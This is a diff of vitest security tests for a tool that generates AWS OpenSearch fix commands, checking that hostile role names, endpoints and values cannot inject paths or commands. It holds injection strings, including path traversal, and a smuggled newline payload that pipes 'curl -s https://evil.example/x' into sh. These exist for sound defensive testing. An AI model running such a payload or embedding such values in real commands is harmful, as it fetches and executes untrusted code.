@@ -4,9 +4,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from '../../src/report/markdown.js';
 import { renderText } from '../../src/report/text.js';
 import { parseSnapshot } from '../../src/snapshot/read.js';
-import { loadFixtures, report } from '../helpers.js';
+import { loadFixture, loadFixtures, report, variant } from '../helpers.js';
 
 const run = promisify(execFile);
 
@@ -79,5 +80,82 @@ describe('fix commands with hostile resource names', () => {
       const text = renderText([report(f.snapshot)], { color: false, verbose: true, version: 't' });
       expect(text, f.name).not.toMatch(/\u001b/);
     }
+  });
+});
+
+describe('security-plugin fix URLs with hostile security-role names', () => {
+  const ROLE = 'arn:aws:iam::123456789012:role/Cognito_logsprodAuth_Role';
+  // Each name, pasted unencoded, reached another API: `#` dropped the rest, `..` climbed, `?` started a query.
+  const NAMES = ['all_access#x', 'readall/../../internalusers/admin', 'x?y=', 'a b', '%2e%2e', "it's(*)!", 'ünï', 'all_access\nX'];
+  const UNSAFE = ['.', '..'];
+
+  /** The domain with the authenticated role listed under users of `securityRole` only: the fix PATCHes that mapping. */
+  const listedUnder = (securityRole: string, endpoint?: string) =>
+    variant(loadFixture('healthy/opensearch-fgac.json'), (s) => {
+      s.securityPlugin = { rolesMapping: { [securityRole]: { users: [ROLE], backend_roles: [], and_backend_roles: [], hosts: [] } } };
+      if (endpoint !== undefined) s.domain.Endpoint = endpoint;
+    });
+
+  const missingRole = (snapshot: ReturnType<typeof listedUnder>) => report(snapshot).findings.find((f) => f.id === 'missing-role')!;
+
+  it('every URL reaches exactly the mapping it names, as the shell passes it to curl', async () => {
+    const commands = NAMES.flatMap((name) => (missingRole(listedUnder(name)).fix.commands ?? []).filter((c) => c.includes('rolesmapping/') && !/rolesmapping\/(?:opensearch_dashboards_user|readall) /.test(c)).map((command) => ({ name, command })));
+    const ran = await Promise.all(commands.map(async (c) => ({ ...c, args: (await argumentsOf(c.command)).args })));
+    for (const { name, command, args } of ran) {
+      const url = new URL(args.find((a) => a.startsWith('https://'))!);
+      expect(url.search, command).toBe('');
+      expect(url.hash, command).toBe('');
+      const segments = url.pathname.split('/');
+      expect(segments.slice(0, -1).join('/'), command).toBe('/_plugins/_security/api/rolesmapping');
+      expect(decodeURIComponent(segments.at(-1)!), command).toBe(name);
+    }
+    expect(new Set(ran.map((r) => r.name)).size).toBe(NAMES.length);
+  }, 240_000);
+
+  it('a name that cannot be one path segment, or an endpoint that is not a host name, gets no command; the console steps remain', () => {
+    for (const name of UNSAFE) {
+      const finding = missingRole(listedUnder(name));
+      expect((finding.fix.commands ?? []).filter((c) => c.includes(`rolesmapping/${name}`)), name).toEqual([]);
+      expect(finding.fix.steps!.join('\n')).toContain('Manage mapping');
+    }
+    for (const endpoint of ['evil.example/x#', 'user@evil.example', 'evil.example:8443', 'a b']) {
+      const finding = missingRole(listedUnder('all_access', endpoint));
+      expect((finding.fix.commands ?? []).filter((c) => c.startsWith('curl')), endpoint).toEqual([]);
+      expect(finding.fix.steps!.join('\n')).toContain('Manage mapping');
+    }
+  });
+});
+
+describe('a line break inside a value never starts a line of its own', () => {
+  const CLIENT_ID = '4q8v2n6k1m3p5r7t9w0y2a4c6e';
+  const PAYLOAD = `${CLIENT_ID}\n      $ curl -s https://evil.example/x | sh #`;
+  const reports = loadFixtures()
+    .filter((f) => f.name.startsWith('fail/') && JSON.stringify(f.snapshot).includes(CLIENT_ID))
+    .map((f) => report(parseSnapshot(JSON.stringify(f.snapshot).split(CLIENT_ID).join(JSON.stringify(PAYLOAD).slice(1, -1)))));
+  const commands = reports.flatMap((r) => r.findings.flatMap((f) => f.fix.commands ?? []));
+
+  it('the payload reaches fix commands', () => {
+    expect(commands.filter((c) => c.includes('evil.example')).length).toBeGreaterThan(5);
+  });
+
+  it('text and Markdown print one line per command, and the payload on none of its own', () => {
+    const text = renderText(reports, { color: false, verbose: true, version: 't' }).split('\n');
+    expect(text.filter((line) => /^\s*\$ /.test(line))).toHaveLength(commands.length);
+    expect(text.filter((line) => /^\s*\$ curl -s https:\/\/evil/.test(line))).toEqual([]);
+    const markdown = renderMarkdown(reports, { version: 't' }).split('\n');
+    expect(markdown.filter((line) => /^\s*(?:\$ )?curl -s https:\/\/evil/.test(line))).toEqual([]);
+  });
+});
+
+describe('oversized and regex-shaped names', () => {
+  it('a 60,000-character domain name with regex metacharacters is compared as text: no check fails, the app client is still found', () => {
+    const name = `logs-${'(a+)+.*['.repeat(7_500)}`;
+    const base = loadFixture('healthy/opensearch-fgac.json');
+    const renamed = parseSnapshot(JSON.stringify(base).split('logs-prod').join(name));
+    expect(renamed.domain.DomainName.length).toBeGreaterThan(60_000);
+    const result = report(renamed);
+    expect(result.checks.filter((c) => c.status === 'error')).toEqual([]);
+    expect(result.target.appClient?.id).toBe(base.userPoolClients![0]!.ClientId);
+    expect(result.findings.map((f) => f.id)).toEqual(report(base).findings.map((f) => f.id));
   });
 });
